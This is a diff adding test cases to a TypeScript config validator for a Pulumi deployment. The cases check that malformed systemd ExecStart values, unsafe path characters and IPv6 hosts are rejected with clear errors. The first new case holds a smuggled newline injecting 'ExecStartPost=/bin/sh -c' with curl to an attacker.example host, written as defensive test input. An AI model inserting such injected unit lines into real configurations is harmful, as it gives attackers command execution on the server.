@@ -89,6 +89,46 @@ const cases: BadInput[] = [
         expect: [/wirebot:services\.gateway\.execStart: bad value "openclaw gateway": must start with the absolute path of the program/],
     },
     {
+        name: "ExecStart with a newline, which would add lines to the unit file",
+        options: adoptedPrimaryOptions({ services: { gateway: { execStart: "/usr/bin/openclaw gateway\nExecStartPost=/bin/sh -c 'curl https://attacker.example'" } } }),
+        expect: [/wirebot:services\.gateway\.execStart: bad value "\/usr\/bin\/openclaw gateway\\nExecStartPost=.*": must be one line without control characters: a newline would start lines of its own in the unit file; put a longer command in a script and give the script's path; fix with: pulumi config set --path wirebot:services\.gateway\.execStart/],
+    },
+    {
+        name: "ExecStart ending in a backslash, which would join the next unit line",
+        options: adoptedPrimaryOptions({ services: { scoreboard: { execStart: "/data/wirebot/bin/wirebot-scoreboard \\" } } }),
+        expect: [/wirebot:services\.scoreboard\.execStart: bad value ".*\\\\": must not end in a backslash, which would join the unit file's next line to the command/],
+    },
+    {
+        name: "path with ':', which splits rsync and Litestream targets",
+        options: adoptedPrimaryOptions({ paths: { databases: ["/data/wirebot/scoreboard/events:v2.db"] } }),
+        expect: [/wirebot:paths\.databases\[0\]: bad value "\/data\/wirebot\/scoreboard\/events:v2\.db": holds ":"; a path may hold only letters, digits and \. _ - \+ @ \/ .*; rename the directory, or link it from such a path; fix with: pulumi config set --path wirebot:paths\.databases\[0\]/],
+    },
+    {
+        name: "path with '=' and a space",
+        options: adoptedPrimaryOptions({ paths: { workspace: "/home/wirebot/x=y z" } }),
+        expect: [/wirebot:paths\.workspace: bad value "\/home\/wirebot\/x=y z": holds "=", " "; a path may hold only/],
+    },
+    {
+        name: "path with glob characters",
+        options: adoptedPrimaryOptions({ paths: { fileSync: ["/data/wirebot/users/*", "/data/wirebot/discovery/[ab]?"] } }),
+        expect: [/wirebot:paths\.fileSync\[0\]: bad value "\/data\/wirebot\/users\/\*": holds "\*"/, /wirebot:paths\.fileSync\[1\]: bad value "\/data\/wirebot\/discovery\/\[ab\]\?": holds "\[", "\]", "\?"/],
+    },
+    {
+        name: "path with a systemd specifier",
+        options: adoptedPrimaryOptions({ services: { gateway: { workingDirectory: "/home/%u/gateway" } } }),
+        expect: [/wirebot:services\.gateway\.workingDirectory: bad value "\/home\/%u\/gateway": holds "%"; a path may hold only/],
+    },
+    {
+        name: "IPv6 address of the primary",
+        options: adoptedPrimaryOptions({ primary: host({ host: "2001:db8::10" }) }),
+        expect: [/wirebot:primary\.host: bad value "2001:db8::10": is an IPv6 address, which the agents' URLs and the rsync and Litestream \(SFTP\) targets would need in brackets and do not get; give the host's IPv4 address, or a DNS name \(one with only an AAAA record is fine\); fix with: pulumi config set --path wirebot:primary\.host/],
+    },
+    {
+        name: "IPv6 address of an existing standby",
+        options: existingStandbyOptions({ standby: { provider: "existing", existing: { host: "2001:db8::11", hostKey: PRIMARY_HOST_KEY } } }),
+        expect: [/wirebot:standby\.existing\.host: bad value "2001:db8::11": is an IPv6 address/],
+    },
+    {
         name: "host key that is not an OpenSSH public key",
         options: adoptedPrimaryOptions({ primary: host({ hostKey: "AAAAC3Nza" }) }),
         expect: [/wirebot:primary\.hostKey: bad value "AAAAC3Nza": must be an OpenSSH public key line .*ssh-keyscan/],
